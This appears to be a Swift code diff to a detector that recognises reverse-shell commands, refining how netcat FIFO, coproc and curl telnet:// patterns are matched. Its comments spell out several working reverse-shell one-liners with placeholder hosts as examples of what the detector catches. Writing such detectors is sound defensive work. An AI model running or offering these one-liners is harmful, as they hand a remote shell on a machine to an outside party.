@@ -171,7 +171,7 @@ enum NetcatMatcher {
   /// `mkfifo f; sh -i <f 2>&1 | nc … >f` has the shell next to the client; `mkfifo f; nc … <f | sh >f` too; and
   /// `sh <f >g & nc … <g >f` only the named pipe between.
   private static func isPipedWithShell(_ shell: ShellText, _ index: Int) -> Bool {
-    shell.isPipedWithShell(index) || shell.hasFIFO && shell.hasFreeShell
+    shell.isPipedWithShell(index) || shell.isJoinedWithShell(index)
   }
 
   /// `coproc nc host 1; exec sh <&${COPROC[0]} >&${COPROC[1]}`
@@ -191,6 +191,7 @@ enum NetcatMatcher {
     // A page that lost its `<` leaves `0/tmp/p`.
     let mangled = arguments.positional.contains { $0.hasPrefix("0/") }
     return users <= 1 && (arguments.input != nil || mangled)
+      && (shell.pipes.isUnnamed || shell.pipes.areUsed(shell.commands, by: index))
   }
 
   private static func match(
@@ -279,10 +280,35 @@ enum NetcatMatcher {
 
   /// `C='curl -Ns telnet://host:port'; $C | sh | $C`
   private static func curlTelnet(_ shell: ShellText) -> ShellMatch? {
-    guard let place = shell.text.firstIndex(of: ByteView("telnet://")), shell.hasPipedShell else { return nil }
-    var end = place
-    while end < shell.text.count, end - place < 300, !isAny(shell.text[end], of: " '\"|;\n\t<>") { end += 1 }
-    guard let endpoint = Endpoint.pair(shell.text.slice(place, end)) else { return nil }
-    return ShellMatch(technique: "telnet", endpoint: endpoint, place: place)
+    guard shell.hasFreeShell || shell.hasPipedShell else { return nil }
+    var from = 0
+    var looks = 0
+    var index = 0
+    while let place = shell.text.firstIndex(of: ByteView("telnet://"), from: from), looks < maximumClients {
+      from = place + 9
+      looks += 1
+      while index + 1 < shell.commands.count, shell.commands[index + 1].range.lowerBound <= place { index += 1 }
+      guard shell.commands.indices.contains(index), isTied(shell, index) else { continue }
+      var end = place
+      while end < shell.text.count, end - place < 300, !isAny(shell.text[end], of: " '\"|;\n\t<>") { end += 1 }
+      guard let endpoint = Endpoint.pair(shell.text.slice(place, end)) else { continue }
+      return ShellMatch(technique: "telnet", endpoint: endpoint, place: place)
+    }
+    return nil
+  }
+
+  /// Whether a command has a shell at its other end, or is kept under a name for a pipe further on.
+  private static func isTied(_ shell: ShellText, _ index: Int) -> Bool {
+    let before = shell.commands[index].before
+    if before == 0x22 || before == 0x27, index > 0, shell.commands[index - 1].words.last?.hasSuffix("=") == true {
+      return shell.hasPipedShell
+    }
+    if isPipedWithShell(shell, index) { return true }
+    // The address in quotes of its own: `curl -s 'telnet://host:1' | sh`.
+    guard before == 0x22 || before == 0x27, shell.commands[index].end == before, index + 1 < shell.commands.count else {
+      return false
+    }
+    let next = shell.commands[index + 1]
+    return next.before == 0x7C && ShellWords.isShellReadingInput(ShellText.withoutPrefix(next.words))
   }
 }
